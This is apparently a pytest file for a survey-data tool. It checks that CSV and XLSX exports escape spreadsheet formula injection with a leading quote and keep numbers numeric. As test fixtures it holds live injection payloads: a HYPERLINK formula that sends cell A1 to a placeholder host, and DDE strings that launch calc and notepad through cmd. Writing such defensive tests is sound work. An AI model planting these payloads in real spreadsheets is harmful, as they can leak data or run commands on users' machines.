"""Spreadsheet formula injection (OWASP "CSV injection", issue 22): text that starts with = + - @ tab or CR
comes out of every CSV and XLSX retour writes behind a single quote, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from dashboard_fixtures import add_users, write_results
from retour import store
from retour.cli import app
from retour.config import load_project
from retour.dashboard import create_app
from retour.spreadsheet_safety import neutralise_frame, neutralise_text
from retour.study import ingest_export, init_study, write_cleaning_log
from test_dashboard import sign_in

DATA = Path(__file__).parent / "data"
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"x")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_COMMUNITY = "=cmd|' /C notepad'!A0"


@pytest.mark.parametrize("value", [HYPERLINK, CALC, "+1+1", "-2+3", "\t=1", "\r=1", "@x"])
def test_text_a_spreadsheet_would_run_gets_a_quote(value):
    assert neutralise_text(value) == "'" + value


@pytest.mark.parametrize("value", ["kayes", "", " =1", "1=1", "'=1", -12, 3.5, None, True])
def test_other_values_are_unchanged(value):
    assert neutralise_text(value) == value


def test_a_frame_escapes_text_columns_and_leaves_numbers_numeric():
    frame = pl.DataFrame({"answer": [HYPERLINK, "-12", "fine", None], "count": [-12, 3, 0, None],
                          "share": [-0.5, 0.25, 1.0, None], "place": pl.Series(["=x", "a", "b", "c"],
                                                                               dtype=pl.Categorical)})
    safe = neutralise_frame(frame)
    assert safe.get_column("answer").to_list() == ["'" + HYPERLINK, "'-12", "fine", None]
    assert safe.get_column("place").to_list() == ["'=x", "a", "b", "c"]
    assert safe.get_column("count").dtype == pl.Int64
    assert safe.get_column("count").to_list() == [-12, 3, 0, None]
    assert safe.get_column("share").to_list() == [-0.5, 0.25, 1.0, None]
    assert frame.get_column("answer").to_list()[0] == HYPERLINK  # the input is not changed


@pytest.fixture
def hostile_problems(study_dir, monkeypatch, tmp_path):
    """The tiny test study with a formula as an answer (an unknown community, so it becomes a problem)."""
    monkeypatch.delenv("RETOUR_SECRET", raising=False)
    shutil.copy(DATA / "mini_form.xlsx", study_dir / "instrument.xlsx")
    project = load_project(study_dir)
    frame = pl.read_csv(DATA / "mini_kobo.csv", infer_schema=False)
    frame = frame.with_columns(pl.when(pl.int_range(pl.len()) == 0).then(pl.lit(HYPERLINK))
                               .otherwise(pl.col("design/community")).alias("design/community"))
    frame.write_csv(tmp_path / "hostile.csv")
    summary = ingest_export(project, tmp_path / "hostile.csv", "baseline")
    assert any(problem.value == HYPERLINK for problem in summary.problems)
    return project


def test_the_cleaning_log_writes_formulas_as_text(hostile_problems, tmp_path):
    target = tmp_path / "log.csv"
    write_cleaning_log(hostile_problems, target)
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    values = [row["value"] for row in rows]
    assert "'" + HYPERLINK in values and HYPERLINK not in values
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert rows[0]["row"].isdigit()  # row numbers stay numbers


def test_problems_as_csv_write_formulas_as_text(hostile_problems):
    result = CliRunner().invoke(app, ["problems", str(hostile_problems.root), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert "'" + HYPERLINK in [row["value"] for row in rows]
    assert HYPERLINK not in [row["value"] for row in rows]
    table = CliRunner().invoke(app, ["problems", str(hostile_problems.root), "--format", "json"])
    assert HYPERLINK.replace('"', '\\"') in table.stdout  # other formats show the answer as it was


def test_the_dashboards_tables_xlsx_holds_no_formula(tmp_path):
    project = init_study(tmp_path / "study")
    write_results(project.store_path, ("baseline",))
    add_users(project.store_path)
    con = store.connect(project.store_path)
    needs = store.read_results(con, "needs", "baseline").drop("round", strict=False)
    needs = needs.with_columns(
        pl.when(pl.int_range(pl.len()) == 0).then(pl.lit(EVIL_COMMUNITY)).otherwise(pl.col("community_id"))
        .alias("community_id"),
        pl.when(pl.int_range(pl.len()) == 0).then(pl.lit(CALC)).otherwise(pl.col("override_why"))
        .alias("override_why"))
    store.write_results(con, "needs", needs.select(store.read_results(con, "needs", "baseline")
                                                   .drop("round", strict=False).columns), "baseline")
    con.close()
    client = sign_in(TestClient(create_app(project), follow_redirects=False), "vera")
    response = client.get("/downloads/tables.xlsx?round=baseline")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + CALC in texts and "'" + EVIL_COMMUNITY in texts
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    estimates = workbook["estimates"]
    header = [cell.value for cell in estimates[1]]
    first = [cell for cell in estimates[2]]
    assert isinstance(first[header.index("estimate")].value, float)
    assert first[header.index("estimate")].data_type == "n"


def test_the_reports_tables_write_a_hostile_community_name_as_text(tmp_path):
    import dataclasses

    from report_bundle import bundle
    from retour.report.tables import write_tables

    data = bundle()
    first = data.communities[0]
    hostile = dataclasses.replace(first, name='=HYPERLINK("http://x/?"&A1,"click")')
    data = dataclasses.replace(data, communities=(hostile, *data.communities[1:]))
    write_tables(data, tmp_path, ("en",))
    book = openpyxl.load_workbook(tmp_path / "tables-en.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(cell.value == "'" + hostile.name for cell in cells)
    numbers = [cell.value for cell in cells if isinstance(cell.value, float)]
    assert numbers  # estimates stay numbers
    for path in tmp_path.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            assert not any(value.startswith(("=", "+", "@")) for value in row), (path.name, row)
